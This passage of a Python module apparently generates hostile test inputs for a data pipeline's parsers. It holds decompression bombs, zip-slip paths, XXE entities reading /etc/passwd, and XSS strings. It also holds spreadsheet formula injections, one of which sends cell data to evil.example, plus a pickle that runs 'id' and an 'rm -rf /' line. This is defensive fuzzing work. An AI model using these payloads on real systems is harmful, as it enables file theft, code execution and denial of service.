"""Makes the hostile files: bombs, traps, lies and broken copies of every format that is read. Nothing of it is kept in git.

Each file is small to make and says by its name what it tries. The same bytes come out every time.
"""

from __future__ import annotations

import bz2
import contextlib
import gzip
import io
import json
import lzma
import random
import sqlite3
import struct
import tarfile
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

File = tuple[str, bytes]

MIB = 1 << 20
HEADER = "event_id,source,start,end,lat,lon,radius_m,type,actor,text\n"
#: characters that reorder, hide or break
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "%0A=1+1",
    "|calc",
    '";=1+1;"',
    '=DDE("cmd";"/C calc";"!A0")',
)
_ARTICLE = (
    "Shelling kills two in Kharkiv\n\nBy Reuters | March 3, 2026\n\nMortar fire hit Kharkiv on Tuesday, killing two.\n"
)


def row(number: int, **cells: str) -> str:
    """A good row of events.csv, with some cells otherwise."""
    usual = {
        "event_id": f"e{number}",
        "source": "s",
        "start": "2026-03-03T01:00:00Z",
        "end": "2026-03-03T02:00:00Z",
        "lat": "49.9",
        "lon": "36.2",
        "radius_m": "2000",
        "type": "fire.shelling",
        "actor": "Alder",
        "text": "words",
    }
    return ",".join(_quoted(cells.get(name, value)) for name, value in usual.items()) + "\n"


def _quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"' if any(mark in cell for mark in ',"\n\r') else cell


def table(*rows: str) -> bytes:
    return (HEADER + "".join(rows)).encode("utf-8", "surrogatepass")


def bombs() -> Iterator[File]:
    """Small files that become large ones."""
    zeros = gzip.compress(bytes(100 * MIB), 9)
    yield "gzip_100MiB_of_zeros.csv.gz", zeros
    yield "gzip_3GB_in_members.csv.gz", zeros * 30
    yield "gzip_of_newlines.csv.gz", gzip.compress(b"\n" * (200 * MIB), 9)
    yield "gzip_of_rows.csv.gz", gzip.compress(HEADER.encode() + row(1).encode() * 2_000_000, 9)
    yield "gzip_of_commas.csv.gz", gzip.compress(HEADER.encode() + b"," * (100 * MIB), 9)
    yield "gzip_of_quotes.csv.gz", gzip.compress(HEADER.encode() + b'"' * (50 * MIB + 1), 9)
    yield "gzip_of_brackets.json.gz", gzip.compress(b"[" * (100 * MIB), 9)
    yield "gzip_of_a_page.html.gz", gzip.compress(b"<html><body>" + b"<p>x</p>" * (12 * MIB), 9)
    yield "gzip_of_a_text.txt.gz", gzip.compress(b"word " * (20 * MIB), 9)
    yield "gzip_in_gzip.csv.gz", gzip.compress(zeros)
    yield "gzip_in_gzip_in_gzip.txt.gz", gzip.compress(gzip.compress(zeros))
    yield "gzip_with_a_long_name.csv.gz", _gzip_with_name(table(row(1)), b"a" * MIB)
    yield "gzip_with_a_wrong_checksum.csv.gz", gzip.compress(table(row(1)))[:-8] + b"\0\0\0\0\0\0\0\0"
    yield "gzip_that_claims_another_size.csv.gz", gzip.compress(table(row(1)))[:-4] + b"\xff\xff\xff\xff"
    yield "bzip2_bomb.csv.bz2", bz2.compress(bytes(100 * MIB))
    yield "xz_bomb.csv.xz", lzma.compress(bytes(100 * MIB), preset=1)
    yield "zip_of_1GiB_of_zeros.csv.zip", _zip_of_zeros(1024 * MIB)
    yield "zip_of_rows.csv.zip", zipped([("rows.csv", HEADER.encode() + row(1).encode() * 2_000_000)])
    yield "zip_of_overlapping_members.zip", _overlapping(300, 10 * MIB)
    yield "zip_of_one_member_pointing_to_another.zip", _zip_with_wrong_offset()
    yield "zip_that_claims_a_small_size.csv.zip", _zip_that_lies(1)
    yield "zip_that_claims_a_great_size.csv.zip", _zip_that_lies(0xFFFFFFF0)
    yield "zip_in_zip.zip", zipped([("inner.zip", _zip_of_zeros(100 * MIB))])
    yield "zip_of_65000_members.zip", zipped([(f"{n}.csv", b"") for n in range(65_000)])
    yield "zip_locked.csv.zip", _zip_with_flag()
    yield "zip_of_bzip2.csv.zip", zipped([("a.csv", bytes(100 * MIB))], zipfile.ZIP_BZIP2)
    yield "zip_of_lzma.csv.zip", zipped([("a.csv", bytes(20 * MIB))], zipfile.ZIP_LZMA)


def archives() -> Iterator[File]:
    """Members with names that lead outside, links, and things that are no files."""
    names = (
        "../../evil.csv",
        "/etc/evil.csv",
        "..\\..\\evil.csv",
        "C:\\evil.csv",
        "a/../../evil.csv",
        "evil\0.csv",
        "",
    )
    for number, name in enumerate(names):
        yield f"zip_leading_outside_{number}.zip", zipped([(name, table(row(1)))])
    yield "zip_with_a_link.zip", _zip_with_link()
    yield "zip_of_two_files_of_one_name.zip", zipped([("a.csv", table(row(1))), ("a.csv", table(row(2)))])
    yield "zip_with_a_shapefile.zip", zipped([(f"zones.{end}", b"\0" * 100) for end in ("shp", "shx", "dbf", "prj")])
    yield "zip_with_a_bidi_name.zip", zipped([("evil\u202evsc.exe", table(row(1)))])
    yield "zip_with_a_comment.zip", zipped([("a.csv", table(row(1)))])[:-2] + struct.pack("<H", 60_000) + b"A" * 60_000
    yield "zip_behind_text.csv.zip", table(row(1)) + zipped([("a.csv", table(row(2)))])
    for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE):
        yield f"tar_with_type_{kind.decode()}.tar", _tar(kind)
        yield f"tar_with_type_{kind.decode()}.tar.gz", gzip.compress(_tar(kind))


def markup() -> Iterator[File]:
    """XML and HTML made to read files, to expand, and to be slow."""
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    doctype = f'<!DOCTYPE rss [<!ENTITY l0 "lol">{lol}]>'
    yield (
        "laughs.xml",
        f'<?xml version="1.0"?>{doctype}<rss version="2.0"><channel><title>&l9;</title></channel></rss>'.encode(),
    )
    yield "laughs.html", f"<!DOCTYPE html [{lol}]><html><body><p>&l9;</p></body></html>".encode()
    big = "A" * 100_000
    quadratic = f'<!DOCTYPE rss [<!ENTITY a "{big}">]><rss version="2.0"><channel><title>{"&a;" * 20_000}</title></channel></rss>'
    yield "quadratic_entities.xml", quadratic.encode()
    for name, system in (("file", "file:///etc/passwd"), ("http", "http://127.0.0.1:9/x"), ("expect", "expect://id")):
        trap = f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{system}">]>'
        yield f"xxe_{name}.xml", _rss("<item><title>&x;</title></item>", trap)
        yield f"xxe_{name}_parameter.xml", _rss("", f'<!DOCTYPE rss [<!ENTITY % x SYSTEM "{system}"> %x;]>')
        yield f"xxe_{name}_dtd.xml", _rss("<item><title>t</title></item>", f'<!DOCTYPE rss SYSTEM "{system}">')
    utf16 = (
        '<?xml version="1.0" encoding="utf-16"?>'
        + _rss("<item><title>&x;</title></item>", '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>').decode()
    )
    yield "xxe_utf16.xml", utf16.encode("utf-16")
    yield (
        "xxe_utf7.xml",
        b'<?xml version="1.0" encoding="utf-7"?><rss version="2.0"><channel>+ADw-!DOCTYPE x+AD4-</channel></rss>',
    )
    yield (
        "xinclude.xml",
        _rss(
            '<item xmlns:xi="http://www.w3.org/2001/XInclude"><title><xi:include href="file:///etc/passwd" parse="text"/></title></item>'
        ),
    )
    yield (
        "xslt.xml",
        b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?><rss version="2.0"><channel/></rss>',
    )
    for depth in (600, 20_000, 300_000):
        yield f"deep_{depth}.html", b"<html><body>" + b"<div>" * depth + b"text" + b"</div>" * depth + b"</body></html>"
        yield (
            f"deep_{depth}.xml",
            b'<rss version="2.0"><channel>' + b"<a>" * depth + b"</a>" * depth + b"</channel></rss>",
        )
    yield "deep_and_open.html", b"<html><body>" + b"<b><i><font><a>" * 30_000 + b"text"
    yield "tables_in_tables.html", b"<html><body>" + b"<table><tr><td>" * 5_000 + b"text"
    yield "formatting_without_end.html", b"<html><body>" + b"<p><b><i><u><s>text" * 20_000
    yield "select_without_end.html", b"<html><body>" + b"<select><option>" * 50_000
    for count in (300, 20_000, 500_000):
        attributes = " ".join(f"a{n}=1" for n in range(count))
        yield f"attributes_{count}.html", f"<html><body><p {attributes}>text</p></body></html>".encode()
        yield (
            f"attributes_{count}.xml",
            f'<rss version="2.0"><channel><item {attributes}><title>t</title></item></channel></rss>'.encode(),
        )
    yield "attributes_of_one_name.html", b"<html><body><p" + b" a=1" * 200_000 + b">text</p>"
    yield "elements_200000.html", b"<html><body>" + b"<br>text" * 200_000
    yield "one_long_attribute.html", b'<html><body><p title="' + b"a" * (5 * MIB) + b'">text</p>'
    yield "one_long_word.html", b"<html><body><p>" + b"a" * (900 * 1024) + b"</p>"
    yield "tag_without_end.html", b"<html><body>" + b"<" * (900 * 1024)
    yield "quote_without_end.html", b"<html><body><p a='" + b"<p a=" * 180_000
    yield "comment_without_end.html", b"<html><body><!--" + b"--!><!--" * 100_000
    yield "scripts_without_end.html", b"<html><body>" + b"<script>" * 100_000
    yield "cdata_without_end.xml", b'<rss version="2.0"><channel><title><![CDATA[' + b"]]" * (2 * MIB)
    yield "entities_500000.html", b"<html><body><p>" + b"&amp;" * 180_000 + b"</p>"
    yield (
        "namespaces.xml",
        ('<rss version="2.0" ' + " ".join(f'xmlns:n{n}="u{n}"' for n in range(20_000)) + "><channel/></rss>").encode(),
    )
    yield (
        "feed_of_a_million_items.xml",
        b'<rss version="2.0"><channel>' + b"<item><title>t</title></item>" * 500_000 + b"</channel></rss>",
    )
    yield (
        "feed_of_one_guid.xml",
        _rss("".join(f"<item><guid>same</guid><title>title {n}</title></item>" for n in range(3_000))),
    )
    yield (
        "feed_with_a_page_in_each_item.xml",
        _rss("<item><title>t</title><description>&lt;div&gt;" + "&lt;div&gt;" * 100_000 + "</description></item>"),
    )
    yield (
        "feed_with_dates.xml",
        _rss(
            "".join(
                f"<item><title>t{n}</title><pubDate>{date}</pubDate></item>"
                for n, date in enumerate(
                    ("9999999-99-99", "Tue, 32 Foo 99999 99:99:99 +9999", "-1", "1e400", "2026-03-03T" + "0" * 10_000)
                )
            )
        ),
    )
    yield "feed_with_bidi.xml", _rss(f"<item><title>Shell{BIDI}ing</title><description>{BIDI}</description></item>")
    yield (
        "feed_with_scripts.xml",
        _rss("<item><title>&lt;script&gt;alert(1)&lt;/script&gt;x</title><link>javascript:alert(1)</link></item>"),
    )
    yield "feed_with_nul.xml", _rss("<item><title>a\0b</title></item>")
    yield (
        "page_with_script.html",
        b"<html><body><h1>Title</h1><p>Mortar fire hit Kharkiv.<script>alert(1)</script><img src=x onerror=alert(1)></p></body></html>",
    )
    yield (
        "page_with_a_lying_charset.html",
        b'<html><head><meta charset="utf-7"></head><body><p>+ADw-script+AD4-</p></body></html>',
    )
    yield (
        "page_with_ld_json.html",
        b'<html><head><script type="application/ld+json">'
        + b'{"@graph":[' * 3_000
        + b"</script></head><body><p>text</p></body></html>",
    )
    yield (
        "page_with_a_huge_number.html",
        b'<html><head><script type="application/ld+json">{"datePublished": '
        + b"9" * 500_000
        + b"}</script></head><body><p>text</p></body></html>",
    )
    yield (
        "page_with_refresh.html",
        b'<html><head><meta http-equiv="refresh" content="0;url=http://127.0.0.1/"><base href="file:///"></head><body><p>text</p></body></html>',
    )
    yield "page_in_nothing.html", b"<html>"
    yield "svg_bomb.html", b"<html><body><svg>" + b"<g><use href='#a'/>" * 20_000 + b"</svg></body></html>"


def lines_and_columns() -> Iterator[File]:
    """Tables that are too long, too wide, or not what they seem."""
    yield "line_of_60MB.csv", HEADER.encode() + b"a" * (60 * MIB)
    yield "header_of_20MB.csv", b"a" * (20 * MIB) + b"\n1\n"
    yield "cell_of_5MB.csv", table(row(1), row(2, text="a" * (5 * MIB)), row(3))
    yield "columns_2000000.csv", b",".join([b"a"] * 2_000_000) + b"\n" + b",".join([b"1"] * 2_000_000) + b"\n"
    yield "columns_100000_in_a_row.csv", table(row(1)) + b"1," * 100_000 + b"\n" + row(2).encode()
    yield "columns_of_one_name.csv", b"start," * 2_000 + b"end\n" + b"1," * 2_000 + b"1\n"
    yield "semicolons_2000000.csv", b";" * 2_000_000 + b"\n"
    yield "blank_lines_5000000.csv", HEADER.encode() + b"\n" * 5_000_000
    yield "blank_lines_only.csv", b"\n" * 5_000_000
    yield "carriage_returns_only.csv", b"\r" * 5_000_000
    yield "sep_lines.csv", b"sep=,\n" * 200_000 + table(row(1))
    yield "rows_1000000_of_one_cell.csv", b"lat\n" + b"1\n" * 1_000_000
    yield "rows_of_wrong_length.csv", table(row(1)) + b"a,b\n" * 300_000 + row(2).encode()
    yield "rows_all_rejected.csv", table(*(row(n, lat="north", start="never") for n in range(50_000)))
    yield "rows_alike.csv", table(*[row(1)] * 200_000)
    yield "quote_without_end.csv", table(row(1)) + b'"' + row(2).encode() * 50_000
    yield "quotes_without_end.csv", table(row(1)) + (b'x,"' + b"y" * 20_000 + b"\n") * 300
    yield "quotes_in_quotes.csv", table(row(1)) + b'""""""' * 500_000
    yield "newlines_in_cells.csv", table(row(1, text="a\n" * 400_000), row(2))
    yield "nul_bytes.csv", table(row(1), row(2, text="a\0b"), row(3)).replace(b"e3", b"e\x003")
    yield "nul_between_all.csv", b"\0".join(bytes([byte]) for byte in table(row(1), row(2)))
    yield "nul_tail.csv", table(row(1)) + bytes(5 * MIB)
    yield "no_rows.csv", HEADER.encode()
    yield "header_only_commas.csv", b",,,,,,,,,\n1,2,3\n"
    yield "latin_header_lies.csv", "event_id,source,stаrt,end,lаt,lon,radius_m,type\n".encode() + row(1).encode()
    yield "twice_the_header.csv", HEADER.encode() + table(row(1))


def numbers() -> Iterator[File]:
    """Figures that are none, or that overflow."""
    odd = {
        "nan": "NaN",
        "inf": "inf",
        "minus_inf": "-Infinity",
        "minus_zero": "-0",
        "1e400": "1e400",
        "1e_minus_400": "1e-400",
        "huge": "9" * 5_000,
        "hex": "0x31",
        "underscores": "4_9.9",
        "arabic": "٤٩٫٩",
        "fullwidth": "４９．９",
        "comma": "49,9",
        "spaces": "4 9.9",
        "pole": "90.0000001",
        "two_signs": "--49",
        "exponent": "49e0",
        "nul": "49\x00.9",
        "bidi": "\u202e9.94",
    }
    for name, cell in odd.items():
        yield f"number_{name}.csv", table(row(1), row(2, lat=cell), row(3, lon=cell), row(4, radius_m=cell), row(5))
    odd_times = ("0000-00-00", "9999-12-31T23:59:60Z", "2026-02-30", "-2026-03-03", "292277026596-12-04T15:30:08Z")
    odd_times += (
        "1e400",
        "2026-03-03T25:00:00Z",
        "2026-03-03T01:00:00+99:99",
        "yesterday",
        "2026-03-03" + "0" * 100_000,
    )
    for number, cell in enumerate(odd_times):
        yield f"time_{number}.csv", table(row(1), row(2, start=cell), row(3, end=cell), row(4, start=cell, end=cell))
    yield "numbers_of_5000_digits.csv", table(*(row(n, radius_m="9" * 5_000) for n in range(2_000)))


def encodings() -> Iterator[File]:
    """Bytes that are not the letters they seem."""
    good = table(row(1, text="Обстріл"), row(2))
    text = "Обстріл Харкова\n\nВлучання міни у вівторок, двоє загиблих.\n" * 20
    for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1251", "koi8-u", "utf-7", "cp866", "iso8859-5"):
        yield f"table_in_{name}.csv", good.decode().encode(name, "replace")
        yield f"text_in_{name}.txt", text.encode(name, "replace")
    yield "overlong_utf8.csv", table(row(1)) + row(2).encode().replace(b"words", b"\xc0\xae\xc0\xae\xc0\xaf")
    yield "surrogates.csv", table(row(1, text="\ud800\udc00"), row(2))
    yield "surrogates.txt", _ARTICLE.encode() + "\ud800".encode("utf-8", "surrogatepass")
    yield "broken_utf8.txt", _ARTICLE.encode() + b"\xff\xfe\x80" * 100
    yield "half_a_letter.txt", (_ARTICLE + "ї").encode()[:-1]
    yield "random.bin", random.Random(1).randbytes(200_000)
    yield "random.csv", random.Random(2).randbytes(200_000)
    yield "random.html", random.Random(3).randbytes(200_000)
    yield "random.json", random.Random(4).randbytes(200_000)
    yield "random.txt", random.Random(5).randbytes(200_000)
    yield "two_marks.csv", b"\xef\xbb\xbf\xef\xbb\xbf" + table(row(1))
    yield "mark_in_the_middle.csv", HEADER.encode() + b"\xff\xfe" + row(1).encode()
    yield "controls.txt", "".join(map(chr, range(32))).encode() * 1_000
    yield "escapes.txt", (_ARTICLE + "\x1b[2J\x1b]0;owned\x07\x1b[31m").encode()
    yield "combining.txt", (_ARTICLE + "a" + "\u0301" * 300_000).encode()
    yield "zero_width.txt", (_ARTICLE + "\u200b\u200c\u200d\u2060" * 100_000).encode()
    yield "bidi.txt", (_ARTICLE + f"He said {BIDI}“no”{BIDI} in Kharkiv.\n").encode()
    yield "bidi.csv", table(row(1, text=BIDI, actor=f"Al{BIDI}der"), row(2))
    yield "tags.csv", table(row(1, text="".join(chr(0xE0000 + n) for n in range(128))), row(2))
    yield (
        "formulas.csv",
        table(*(row(n, text=formula, actor=formula, event_id=formula) for n, formula in enumerate(FORMULAS))),
    )
    yield "formulas_in_the_source.csv", table(*(row(n, source=formula) for n, formula in enumerate(FORMULAS)))
    yield (
        "homoglyph_source.csv",
        table(row(1, source="Reuters"), row(2, source="Rеuters"), row(3, source="Reutеrs\u200b")),
    )
    yield (
        "homoglyph_source.jsonl",
        "".join(
            json.dumps({"id": f"i{n}", "text": _ARTICLE, "source": name}) + "\n"
            for n, name in enumerate(("AFP", "АFP", "AFР", "ＡＦＰ", "A\u200bFP"))
        ).encode(),
    )
    yield (
        "markup_in_cells.csv",
        table(
            row(1, text="<script>alert(1)</script>", actor="</td><img src=x onerror=alert(1)>"),
            row(2, text="[a](javascript:alert(1)) | `x` | <b>"),
        ),
    )


def texts() -> Iterator[File]:
    """Words made to be slow to read."""
    yield "text_of_15MB.txt", (_ARTICLE.encode() * 150_000)[: 15 * MIB]
    yield "text_of_7MB.txt", (_ARTICLE.encode() * 70_000)[: 7 * MIB]
    yield "one_word_of_1MB.txt", b"a" * MIB
    yield "one_line_of_2MB.txt", b"word " * (400 * 1024)
    yield "one_sentence_of_1MB.txt", b"Shelling in Kharkiv, killing two, " * 30_000 + b"."
    yield "quotes_open_100000.txt", _ARTICLE.encode() + "“".encode() * 100_000
    yield "quotes_open_and_close.txt", _ARTICLE.encode() + "“a” he said, ".encode() * 30_000
    yield "nested_quotes.txt", ("“" * 20_000 + "words" + "”" * 20_000).encode()
    yield "brackets.txt", _ARTICLE.encode() + b"(" * 200_000 + b")" * 200_000
    yield "numbers_without_end.txt", _ARTICLE.encode() + b"1234567890" * 50_000 + b" killed"
    yield "numbers_and_units.txt", b"82 mm 120 mm 155 mm mortar shells killed 3 and 4 and " * 10_000
    yield "dates_without_end.txt", b"On Tuesday, 3 March 2026 at 14:05 on Wednesday, " * 10_000
    yield "places_without_end.txt", b"near Kharkiv, near Kyiv, north of Sumy, " * 10_000
    yield "said_said_said.txt", b"He said that she said that " * 20_000
    yield "dots.txt", b"." * 500_000
    yield "spaces.txt", b"a" + b" " * 900_000 + b"b"
    yield "tabs_and_newlines.txt", b"a" + b"\t\n" * 400_000 + b"b"
    yield "apostrophes.txt", "’'".encode() * 200_000
    yield "dashes.txt", "–—-".encode() * 100_000
    yield "initials.txt", b"A. B. C. D. " * 40_000
    yield "long_names.txt", b"Van Der Von De La " * 30_000
    yield "letters_and_digits.txt", b"a1" * 400_000
    yield "slavic_without_end.txt", "Обстріл Харкова, загинули двоє, ".encode() * 15_000
    yield "mixed_letters.txt", "KhаrkіvХaрkiв ".encode() * 20_000
    yield "bylines.txt", b"By A B | March 3, 2026\n" * 30_000


def json_files() -> Iterator[File]:
    """JSON that is deep, wide, wrong, or full of traps."""
    for depth in (100, 100_000, 1_000_000):
        yield f"json_lists_{depth}_deep.json", b"[" * depth + b"]" * depth
        yield f"json_objects_{depth}_deep.json", b'{"a":' * depth + b"1" + b"}" * depth
    yield "json_deep_in_a_string.json", json.dumps("[" * 100_000).encode()
    yield "json_number_of_5MB.json", b'[{"event_type": ' + b"9" * (5 * MIB) + b"}]"
    yield "json_number_of_5000_digits.jsonl", b'{"id": "a", "text": "t", "n": ' + b"9" * 5_000 + b"}\n"
    yield (
        "json_nan.jsonl",
        b'{"id": "a", "text": "t", "lat": NaN}\n{"id": "b", "text": "t", "lat": Infinity}\n{"id": "c", "text": "t", "lat": 1e400}\n',
    )
    yield "json_keys_twice.jsonl", b'{"id": "a", "id": "b", "text": "t"}\n'
    yield "json_million_keys.json", ("[{" + ",".join(f'"k{n}":1' for n in range(300_000)) + "}]").encode()
    yield "json_not_closed.json", b'[{"event_type": "fire"'
    yield "json_string_not_closed.json", b'["' + b"a" * (10 * MIB)
    yield "json_escapes.jsonl", b'{"id": "\\u0000\\ud800", "text": "\\u202e\\udfff"}\n'
    yield "json_of_nulls.jsonl", b'{"id": null, "text": null}\n{}\n[]\nnull\n1\n"a"\n'
    yield "json_long_line.jsonl", b'{"id": "a", "text": "' + b"a" * (17 * MIB) + b'"}\n{"id": "b", "text": "t"}\n'
    yield "json_many_lines.jsonl", b'{"id": "a"}\n' * 200_000
    yield "json_ids_of_1MB.jsonl", (json.dumps({"id": "a" * MIB, "text": "t"}) + "\n").encode() * 5
    nested = "[" * 10 + "[36.1,49.9]," * 200_000 + "[36.1,49.9]" + "]" * 10
    yield (
        "geojson_nested.geojson",
        f'{{"type":"FeatureCollection","features":[{{"type":"Feature","properties":{{"id":"z"}},"geometry":{{"type":"Polygon","coordinates":{nested}}}}}]}}'.encode(),
    )
    yield (
        "geojson_deep.geojson",
        b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"id":"z"},"geometry":{"type":"Polygon","coordinates":'
        + b"[" * 1_000_000
        + b"]" * 1_000_000
        + b"}}]}",
    )
    ring = ",".join(f"[{36 + n % 1000 / 1e5},{49 + n / 1e6}]" for n in range(300_000))
    yield "geojson_ring_of_300000.geojson", _zone(f'{{"type":"Polygon","coordinates":[[{ring},[36,49]]]}}')
    yield "geojson_bow_tie.geojson", _zone('{"type":"Polygon","coordinates":[[[0,0],[1,1],[1,0],[0,1],[0,0]]]}')
    yield (
        "geojson_outside.geojson",
        _zone('{"type":"Polygon","coordinates":[[[1e9,1e9],[1e308,0],[0,1e308],[1e9,1e9]]]}'),
    )
    yield "geojson_nan.geojson", _zone('{"type":"Polygon","coordinates":[[[NaN,0],[1,1],[1,0],[NaN,0]]]}')
    yield "geojson_collections.geojson", _zone('{"type":"GeometryCollection","geometries":[' * 500 + "]}" * 500)
    yield "geojson_empty.geojson", _zone('{"type":"Polygon","coordinates":[]}')
    yield (
        "geojson_of_holes.geojson",
        _zone('{"type":"Polygon","coordinates":[' + ",".join(["[[0,0],[0,1],[1,1],[0,0]]"] * 50_000) + "]}"),
    )


def databases() -> Iterator[File]:
    """Files of databases and columns, with claims that are not true."""
    yield "sqlite_with_a_trigger.gpkg", _sqlite()
    yield (
        "sqlite_with_a_loop.db",
        _sqlite("CREATE VIEW v AS WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r) SELECT * FROM r"),
    )
    yield "sqlite_broken.gpkg", _sqlite()[:3000] + b"\xff" * 3000
    yield "parquet_of_600M_rows.parquet", _parquet(2_000_000)
    whole = _parquet(10)
    yield "parquet_with_a_long_footer.parquet", whole[:-8] + struct.pack("<I", 0xFFFFFFF0) + b"PAR1"
    yield "parquet_broken.parquet", whole[: len(whole) // 2] + b"\xff" * (len(whole) // 2)
    yield "parquet_magic_only.parquet", b"PAR1PAR1"
    yield "arrow_stream.arrow", _arrow()
    yield "arrow_broken.arrow", _arrow()[:100] + b"\xff" * 500
    yield "xlsx_bomb.xlsx", _xlsx("<row><c><v>1</v></c></row>" * 5_000_000)
    yield (
        "xlsx_laughs.xlsx",
        _xlsx('<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><row><c><v>&b;</v></c></row>'),
    )
    yield "xlsx_formulas.xlsx", _xlsx('<row r="1"><c r="A1" t="str"><f>cmd|calc</f><v>1</v></c></row>')
    yield "old_office.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000)


def polyglots() -> Iterator[File]:
    """One thing to one reader, another to the next."""
    page = b"<html><body><p>Mortar fire hit Kharkiv.</p></body></html>"
    yield "page_as_table.csv", page
    yield "table_as_page.html", table(row(1), row(2))
    yield "page_as_text.txt", page
    yield "feed_as_page.html", _rss("<item><title>t</title></item>")
    yield "page_then_zip.html", page + zipped([("a.csv", table(row(1)))])
    yield "zip_then_page.zip", zipped([("a.csv", table(row(1)))]) + page
    yield "gif_and_page.html", b"GIF89a/*" + page + b"*/=1;"
    yield (
        "pdf_as_text.txt",
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    )
    yield "pdf.pdf", b"%PDF-1.7\n1 0 obj<</Length 99999999999>>stream\nendstream endobj"
    yield "elf_as_table.csv", b"\x7fELF" + bytes(60_000)
    yield "pickle_as_json.json", b"cos\nsystem\n(S'id'\ntR."
    yield (
        "yaml_bomb.yaml",
        b"a: &a [x,x,x,x,x,x,x,x,x]\n"
        + b"".join(f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n".encode() for n in range(8)),
    )
    yield "json_and_table.csv", b'[{"a": 1}]\n' + table(row(1))
    yield (
        "png.png",
        b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 0xFFFFFFFF) + b"IHDR" + struct.pack(">II", 0x7FFFFFFF, 0x7FFFFFFF),
    )
    yield "script.html.txt", b"#!/bin/sh\nrm -rf /\n" + page
    yield "name_with_\u202e fdp.exe.txt", _ARTICLE.encode()
    yield "=cmd|' C calc'!A0.csv", table(row(1))
    yield "name\nwith lines\x1b[31m.csv", table(row(1), "broken\n")
    yield "-rf.csv", table(row(1), "broken\n")
    yield "<img src=x onerror=alert(1)>.csv", table(row(1), "broken\n")


def truncated() -> Iterator[File]:
    """Whole files cut in the middle."""
    whole = {
        "table.csv": table(*(row(n) for n in range(100))),
        "table.csv.gz": gzip.compress(table(*(row(n) for n in range(100)))),
        "table.zip": zipped([("a.csv", table(*(row(n) for n in range(100))))]),
        "page.html": b"<html><head><title>T</title></head><body><article>"
        + b"<p>Mortar fire hit Kharkiv.</p>" * 50
        + b"</article>",
        "feed.xml": _rss("<item><title>t</title><description>words words</description></item>" * 50),
        "items.jsonl": b'{"id": "a", "text": "words and words"}\n' * 50,
        "list.json": json.dumps([{"event_type": "fire", "n": n} for n in range(100)]).encode(),
        "zones.geojson": _zone('{"type":"Polygon","coordinates":[[[36,49],[37,49],[37,50],[36,49]]]}'),
        "text.txt": (_ARTICLE * 5 + "Обстріл").encode(),
        "agreement.toml": AGREEMENT.encode(),
        "table.parquet": _parquet(10),
        "base.gpkg": _sqlite(),
    }
    for name, data in whole.items():
        stem, _, ending = name.partition(".")
        for share in (1, 5, 9):
            yield f"cut_{share}_{stem}.{ending}", data[: max(1, len(data) * share // 10)]
    yield "empty.csv", b""
    yield "one_byte.csv", b"\0"
    yield "one_letter.txt", b"a"


def settings() -> Iterator[File]:
    """Maps, agreements and settings in TOML."""
    yield "toml_deep.toml", b"a = " + b"[" * 100_000 + b"]" * 100_000
    yield "toml_deep_tables.toml", b"a = " + b"{a = " * 50_000 + b"1" + b"}" * 50_000
    yield "toml_dotted.toml", b"a" + b".a" * 100_000 + b" = 1"
    yield "toml_number.toml", b"a = " + b"9" * 100_000
    yield "toml_many_keys.toml", b"".join(f"k{n} = 1\n".encode() for n in range(200_000))
    yield "toml_not_utf8.toml", b'a = "\xff\xfe"'
    yield "toml_nul.toml", b'a = "\0"'
    yield "toml_20MB.toml", b"# " + b"a" * (20 * MIB) + b"\n" + AGREEMENT.encode()
    yield "agreement_of_provisions.toml", (AGREEMENT + "".join(_PROVISION.format(n=n) for n in range(3_000))).encode()
    yield (
        "agreement_deep_condition.toml",
        (
            AGREEMENT
            + '[[provision]]\nid = "deep"\nwords = "w"\ncitation = "c"\nwhen = '
            + "{ not = " * 2_000
            + '{ act = "fire" }'
            + " }" * 2_000
        ).encode(),
    )
    yield "agreement_with_nan.toml", AGREEMENT.replace('"2026-03-01T00:00"', "nan").encode()
    yield "agreement_with_bidi.toml", AGREEMENT.replace("All fire", f"All {BIDI} fire").encode()
    yield "agreement_with_markup.toml", AGREEMENT.replace("All fire", "<script>alert(1)</script> =1+1").encode()
    yield (
        "agreement_zone_of_time.toml",
        AGREEMENT.replace('time_zone = "UTC"', 'time_zone = "../../../../etc/passwd"').encode(),
    )
    yield (
        "agreement_without_end.toml",
        AGREEMENT.replace("2026-03-01", "0001-01-01").replace("2026-04-01", "9999-12-31").encode(),
    )
    yield "map_of_patterns.toml", b'[[table]]\nmatch = "' + b"*a" * 5_000 + b'"\n'
    yield (
        "map_to_itself.toml",
        b'[columns]\nstart = "end"\nend = "start"\nlat = "lat"\n[types]\n"fire.shelling" = "fire.shelling"\n',
    )


AGREEMENT = """[agreement]
id = "a"
name = "A truce"
version = "1"
time_zone = "UTC"

[[party]]
id = "A"
name = "Alder"

[[party]]
id = "B"
name = "Birch"

[[reading]]
according_to = "all"
from = "2026-03-01T00:00"
until = "2026-04-01T00:00"

[[provision]]
id = "fire"
words = "All fire shall cease."
citation = "Article 1"
when = { act = "fire" }
"""
_PROVISION = """
[[provision]]
id = "p{n}"
words = "All fire shall cease."
citation = "Article {n}"
when = {{ act = "fire" }}
"""

KINDS: tuple[Callable[[], Iterator[File]], ...] = (
    bombs,
    archives,
    markup,
